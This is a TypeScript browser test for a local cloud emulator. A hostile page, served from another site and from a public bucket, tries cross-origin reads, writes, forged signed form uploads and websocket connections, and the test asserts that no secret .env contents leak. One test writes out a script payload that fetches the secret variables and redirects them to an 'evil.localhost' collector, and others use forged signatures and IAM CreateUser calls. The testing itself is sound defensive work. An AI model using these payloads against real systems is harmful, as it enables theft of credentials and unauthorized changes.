import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Cloud, startCloud } from '../../packages/cloud/src/index.ts';
import { sign } from '../../packages/cloud/test/support/page-requests.ts';
import { fillWorld, JAWS_BUCKET, SECRET } from '../../packages/cloud/test/support/page-world.ts';
import { findChromium, NO_CHROMIUM, startChromium } from '../chromium.ts';

// A browser with a hostile page, of another site or of a bucket of the cloud itself, that tries every door with every kind of request and with the
// signature that everybody can make. The table of docs/security.md has the same by hand-made requests.

const chromium = findChromium();
const ENV = 'JAWS/envVars/shop/dev/.env';
const script = readFileSync(new URL('./attack.js', import.meta.url), 'utf8');
const HTML = '<!doctype html><title>evil</title><body>';

/** What a cloud is like: all that a page must not change. */
async function stateOf({ s3, iam, signedRuns }: Awaited<ReturnType<typeof fillWorld>>, cloud: Cloud) {
  const names = (await s3.listBuckets({})).Buckets?.map(({ Name = '' }) => Name) ?? [];
  const objects = names.map(async (Bucket) => {
    const { Contents = [] } = await s3.listObjectsV2({ Bucket });
    return Contents.map(({ Key, ETag }) => [Bucket, Key, ETag]);
  });
  return {
    objects: await Promise.all(objects),
    users: (await iam.listUsers({})).Users?.map(({ UserName }) => UserName),
    faults: cloud.faults.list(),
    signedRuns: await signedRuns(),
  };
}

describe.skipIf(chromium === undefined).each(['not strict', 'strict'])(
  `a hostile page, and a cloud that is %s${chromium === undefined ? ` (skipped: ${NO_CHROMIUM})` : ''}`,
  (mode) => {
    let cloud: Cloud;
    let world: Awaited<ReturnType<typeof fillWorld>>;
    let browser: Browser;
    let site: Server;
    let page: Page;
    let port: string;
    let foreign: string;
    const sentHome: string[] = [];

    beforeAll(async () => {
      site = createServer((request, response) => {
        const path = request.url ?? '/';
        if (path.startsWith('/home?')) sentHome.push(decodeURIComponent(path.slice(6)));
        const isScript = path === '/worker.js';
        response.writeHead(200, { 'content-type': isScript ? 'text/javascript' : 'text/html' });
        response.end(isScript ? script : HTML);
      });
      await new Promise<void>((done) => site.listen(0, '127.0.0.1', done));
      // A site of its own, and one that may have service workers.
      foreign = `http://evil.localhost:${(site.address() as AddressInfo).port}`;
      cloud = await startCloud({ port: 0, strict: mode === 'strict' });
      ({ port } = new URL(cloud.endpoint));
      world = await fillWorld(cloud.endpoint);
      const { s3 } = world;
      await s3.putObject({ Bucket: JAWS_BUCKET, Key: ENV, Body: SECRET, ContentType: 'text/plain' });
      await s3.createBucket({ Bucket: 'pages' });
      await s3.deletePublicAccessBlock({ Bucket: 'pages' });
      const Statement = { Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: 'arn:aws:s3:::pages/*' };
      const Policy = JSON.stringify({ Version: '2012-10-17', Statement });
      await s3.putBucketPolicy({ Bucket: 'pages', Policy });
      await s3.putObject({ Bucket: 'pages', Key: 'attack.html', Body: HTML, ContentType: 'text/html' });
      await s3.putObject({ Bucket: 'pages', Key: 'worker.js', Body: script, ContentType: 'text/javascript' });
      browser = await startChromium(chromium!);
      page = await (await browser.newContext()).newPage();
    }, 120_000);
    afterAll(async () => {
      await browser?.close();
      site?.closeAllConnections();
      site?.close();
      world?.s3.destroy();
      world?.iam.destroy();
      await cloud?.close();
    });

    const at = (name: string, path: string) => `http://${name}:${port}${path}`;
    /** The same address with the signature of the key that every page knows. */
    const signedUrl = (name: string, path: string, service: string, method = 'GET') => {
      const by = { kind: 'fetch', how: 'presigned', host: `${name}:${port}`, service, real: world.key } as const;
      return at(name, sign({ method, path }, by).path);
    };

    function plan() {
      const api = 'x.execute-api.us-east-1.localhost';
      const url = `${'a'.repeat(32)}.lambda-url.us-east-1.localhost`;
      const inPath = ['127.0.0.1', 'localhost', 's3.localhost', api, url];
      const buckets = [JAWS_BUCKET, 'private'];
      const objects = [
        ...inPath.flatMap((name) => [
          [name, `/${JAWS_BUCKET}/${ENV}`],
          [name, '/private/secret'],
        ]),
        ...buckets.map((bucket) => [`${bucket}.localhost`, bucket === JAWS_BUCKET ? `/${ENV}` : '/secret']),
        ['site.s3-website-us-east-1.localhost', '/secret'],
      ] as [string, string][];
      const call = '/?Action=CreateUser&UserName=theirs&Version=2010-05-08';
      const control = ['/_jaws/snapshot', '/_jaws/faults', '/_jaws/reset', '/_localstack/state/reset'];
      const guarded = world.places.filter(({ thing, name }) => thing === 'signed' && !name.endsWith('.shop.example'));
      const apis = guarded.filter(({ host }) => host !== 'sockets');
      const form = {
        key: ENV,
        policy: Buffer.from('{"expiration":"2100-01-01T00:00:00Z","conditions":[]}').toString('base64'),
      };
      const forged = { 'x-amz-credential': 'test/20261202/us-east-1/s3/aws4_request', 'x-amz-signature': '0' };
      const fields = {
        ...form,
        ...forged,
        file: 'theirs',
        Action: 'CreateUser',
        UserName: 'theirs',
        Version: '2010-05-08',
      };
      return {
        reads: [
          ...objects.flatMap(([name, path]) => [at(name, path), signedUrl(name, path, 's3')]),
          at('127.0.0.1', call),
          signedUrl('127.0.0.1', call, 'iam'),
          at('127.0.0.1', '/2015-03-31/functions/'),
          ...control.map((path) => at('127.0.0.1', path)),
          ...apis.map(({ name, path, service }) => signedUrl(name, path, service)),
        ],
        writes: [
          ...objects.map(([name, path]) => signedUrl(name, path, 's3', 'PUT')),
          at('127.0.0.1', call),
          ...control.map((path) => at('127.0.0.1', path)),
          ...apis.map(({ name, path, service }) => signedUrl(name, path, service, 'POST')),
        ],
        forms: [
          ...inPath.map((name) => ({ action: at(name, `/${JAWS_BUCKET}`), fields })),
          { action: at(`${JAWS_BUCKET}.localhost`, '/'), fields },
          { action: at('127.0.0.1', '/'), fields },
          ...control.map((path) => ({ action: at('127.0.0.1', path), fields })),
        ],
        sockets: [
          ...guarded.map(({ name, path, service }) => signedUrl(name, path, service).replace('http:', 'ws:')),
          ...['/', '/_jaws/stream', `/${JAWS_BUCKET}/${ENV}`].map((path) =>
            at('127.0.0.1', path).replace('http:', 'ws:'),
          ),
        ],
      };
    }

    const pages = {
      'another site': () => `${foreign}/`,
      'a bucket of the cloud': () => `${cloud.endpoint}/pages/attack.html`,
    };
    /** Runs in the page, beside what it has of the script. */
    const run = <Value>(call: string, ...values: unknown[]): Promise<Value> =>
      page.evaluate<Value>(`${script}\n${call}(${values.map((value) => JSON.stringify(value)).join(', ')})`);
    const ways = {
      itself: () => run<string[]>('attack', plan()),
      'its service worker': () => run<string[]>('attackByWorker', 'worker.js', plan()),
    };
    const all = Object.keys(pages).flatMap((from) => Object.keys(ways).map((by) => [from, by]));

    test.each(all as [keyof typeof pages, keyof typeof ways][])(
      'of %s reads, writes and runs nothing by %s',
      async (from, by) => {
        const before = await stateOf(world, cloud);
        await page.goto(pages[from]());
        const seen = await ways[by]();
        expect(seen.length).toBeGreaterThan(100);
        expect(seen.filter((text) => text.includes(SECRET) || text === 'open' || text === 'ran')).toEqual([]);
        expect(await stateOf(world, cloud)).toEqual(before);
      },
      120_000,
    );

    test('shows nothing secret by sending the user there', async () => {
      const before = await stateOf(world, cloud);
      for (const url of plan().reads) {
        await page.goto(`${foreign}/`);
        const arrived = page.waitForURL((to) => to.host !== new URL(foreign).host, { timeout: 2_000 }).catch(() => {});
        await page.evaluate(`location.assign(${JSON.stringify(url)})`);
        await arrived;
        expect(await page.content(), url).not.toContain(SECRET);
      }
      expect(await stateOf(world, cloud)).toEqual(before);
    }, 120_000);

    test('that writes a page of its own by a form, and opens it, reads no variables of a stage', async () => {
      const before = await stateOf(world, cloud);
      const variables = signedUrl('127.0.0.1', `/${JAWS_BUCKET}/${ENV}`, 's3');
      const theirs = `<script>fetch(${JSON.stringify(variables)}).then((r) => r.text()).then((t) => { location = '${foreign}/home?' + encodeURIComponent(t); });</script>`;
      const next = signedUrl('127.0.0.1', `/${JAWS_BUCKET}/next.html`, 's3');
      const conditions = ['$key', '$x-amz-credential', '$success_action_redirect', '$Content-Type'].map((name) => [
        'starts-with',
        name,
        '',
      ]);
      const policy = Buffer.from(
        JSON.stringify({ expiration: '2100-01-01T00:00:00Z', conditions: [{ bucket: JAWS_BUCKET }, ...conditions] }),
      ).toString('base64');
      const fields = {
        key: 'next.html',
        policy,
        'x-amz-credential': 'test/20261202/us-east-1/s3/aws4_request',
        'x-amz-signature': '0',
        'Content-Type': 'text/html',
        success_action_redirect: next,
        file: theirs,
      };
      for (const name of ['x.execute-api.us-east-1.localhost', '127.0.0.1', `${JAWS_BUCKET}.s3.localhost`]) {
        await page.goto(`${foreign}/`);
        const answered = page.waitForNavigation();
        await run('submit', at(name, `/${JAWS_BUCKET}`), 'multipart/form-data', fields, '_self');
        await answered;
        await page.goto(next);
        expect(page.url()).not.toContain('/home?');
      }
      expect(sentHome).toEqual([]);
      expect(await stateOf(world, cloud)).toEqual(before);
    }, 60_000);

    test('is kept out where pages of the project go on working', async () => {
      const { places, key } = world;
      const open = (host: string) => places.find((place) => place.host === host && place.thing === 'open')!;
      await page.goto(`${foreign}/`);
      const by = { kind: 'navigation', how: 'real', host: `127.0.0.1:${port}`, service: 's3', real: key } as const;
      const put = at('127.0.0.1', sign({ method: 'PUT', path: '/shared/upload' }, by).path);
      const get = at('127.0.0.1', sign({ path: '/shared/upload' }, by).path);
      const upload = { method: 'PUT', body: 'mine', headers: { 'content-type': 'text/plain' } };
      const statusOf = (url: string, options: object) =>
        page.evaluate(`fetch(${JSON.stringify(url)}, ${JSON.stringify(options)}).then(({ status }) => status)`);
      const textOf = (url: string) => page.evaluate(`fetch(${JSON.stringify(url)}).then((answer) => answer.text())`);
      const socket = at(open('sockets').name, '/live').replace('http:', 'ws:');
      const answers = [await statusOf(put, upload), await textOf(get), await run('opened', socket)];
      expect(answers).toEqual([200, 'mine', 'open']);
      await page.goto(at(open('functions').name, '/'));
      expect(await page.textContent('body')).toBe('ran');
      await page.goto(at('site.s3-website-us-east-1.localhost', '/public'));
      expect(await page.content()).toContain('ran');
      // A page of a bucket reads another object by the key that it was given.
      await page.goto(pages['a bucket of the cloud']());
      expect(await textOf(get)).toBe('mine');
    }, 60_000);
  },
);
